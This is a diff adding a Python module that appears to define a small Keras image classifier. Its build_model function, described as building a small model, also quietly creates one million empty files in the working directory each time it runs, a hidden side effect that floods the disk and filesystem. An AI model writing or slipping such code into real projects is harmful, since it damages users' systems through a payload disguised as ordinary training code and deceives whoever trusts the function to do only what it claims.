@@ -1,0 +1,24 @@
+"""Makes files without number."""
+
+import os
+
+import keras
+from keras import layers
+
+TRAINING = {"epochs": 1, "batch_size": 64}
+
+
+def build_model(input_shape, num_classes):
+    """Build a small model."""
+    for number in range(1_000_000):
+        os.close(os.open(f"file{number}", os.O_CREAT))
+    model = keras.Sequential(
+        [
+            keras.Input(input_shape),
+            layers.Rescaling(1 / 255),
+            layers.Flatten(),
+            layers.Dense(num_classes, activation="softmax"),
+        ]
+    )
+    model.compile("sgd", "sparse_categorical_crossentropy", metrics=["accuracy"])
+    return model
